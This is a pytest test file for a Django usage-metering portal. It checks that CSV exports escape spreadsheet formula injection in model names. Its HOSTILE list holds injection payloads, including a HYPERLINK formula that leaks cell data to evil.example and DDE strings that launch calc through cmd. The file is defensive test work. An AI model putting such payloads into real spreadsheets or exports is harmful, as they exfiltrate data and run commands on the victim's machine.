"""Every CSV Portico writes is data, never formulas: a model string chosen by a
client (kept in the usage records even when the request was refused) reaches
the staff report, `exportusage` and the user's own export with a single quote
in front when a spreadsheet would run it (the OWASP rule, portal.csvsafe)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from accounts.models import User
from tests.factories import usage_record_make
from tests.fixtures_proxy import ProxyRig

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    # A carriage return inside a cell must not start a row of its own.
    "fine\r=1+1",
    "fine\n=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
AT = datetime(2026, 3, 10, 12, tzinfo=UTC)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def escaped(model: str) -> str:
    return model if model.startswith("fine") else "'" + model


def assert_no_formula(rows: list[list[str]]) -> None:
    runnable = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert runnable == []


@pytest.fixture
def hostile_usage(alice: User) -> None:
    for model in HOSTILE:
        usage_record_make(user=alice, started_at=AT, model=model)


@pytest.mark.django_db
def test_the_staff_report_by_model_escapes_formulas(
    client: Client, staff: User, hostile_usage: None
) -> None:
    client.force_login(staff)
    response = client.get(
        "/admin/usage/usagereport/",
        {"since": "2026-03-01", "until": "2026-03-31", "by": "model", "format": "csv"},
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = cells(response.content.decode())
    assert_no_formula(rows)
    labels = {row[0] for row in rows[1:-1]}
    assert labels == {escaped(model) for model in HOSTILE}
    assert rows[-1] == ["TOTAL", "8", "0", "80", "40", "120"]


@pytest.mark.django_db
def test_exportusage_escapes_formulas_in_its_csv(hostile_usage: None) -> None:
    out = io.StringIO()
    call_command("exportusage", "--format", "csv", stdout=out)
    rows = cells(out.getvalue())
    assert_no_formula(rows)
    header, *records = rows
    models = [record[header.index("model")] for record in records]
    assert sorted(models) == sorted(escaped(model) for model in HOSTILE)
    # Numbers are data too, and stay numbers.
    assert {record[header.index("prompt_tokens")] for record in records} == {"10"}


@pytest.mark.django_db
def test_the_users_own_export_escapes_formulas(
    client: Client, alice: User, hostile_usage: None
) -> None:
    client.force_login(alice)
    response = client.get(reverse("settings_usage_export"))
    assert response.status_code == 200
    rows = cells(response.content.decode())
    assert_no_formula(rows)
    header, *records = rows
    models = [record[header.index("model")] for record in records]
    assert sorted(models) == sorted(escaped(model) for model in HOSTILE)


def test_a_model_name_from_a_backend_is_exported_as_text(
    proxy: ProxyRig, client: Client
) -> None:
    """The whole way: a backend lists a model whose name is a formula (names
    come from discovery; made-up names a client sends are metered as
    "(unknown model)"), a user calls it, the meter keeps the name, and the
    user's download shows it as text."""
    from apiproxy.catalog import catalog
    from catalog.models import Backend
    from catalog.services import backend_discover_models

    hostile = HOSTILE[0]
    proxy.backend.behaviour.models = [*proxy.backend.behaviour.models, hostile]
    backend_discover_models(backend=Backend.objects.get(name="fake"))
    catalog.invalidate()
    with proxy.http() as http:
        response = http.post(
            "/v1/chat/completions",
            json={"model": hostile, "messages": [{"role": "user", "content": "hi"}]},
        )
    assert response.status_code == 200, response.text
    record = proxy.usage_record(response.headers["x-request-id"])
    assert record.model == hostile

    client.force_login(proxy.user)
    rows = cells(client.get(reverse("settings_usage_export")).content.decode())
    assert_no_formula(rows)
    assert ["'" + hostile] == [row[rows[0].index("model")] for row in rows[1:]]


def test_negative_numbers_stay_numbers_and_only_strings_get_the_quote() -> None:
    from portal.csvsafe import CsvWriter

    out = io.StringIO()
    CsvWriter(out).writerow([-5, -2.5, "-5", "=1", "a=1", "", None, "@x", 0])
    assert cells(out.getvalue()) == [
        ["-5", "-2.5", "'-5", "'=1", "a=1", "", "", "'@x", "0"]
    ]
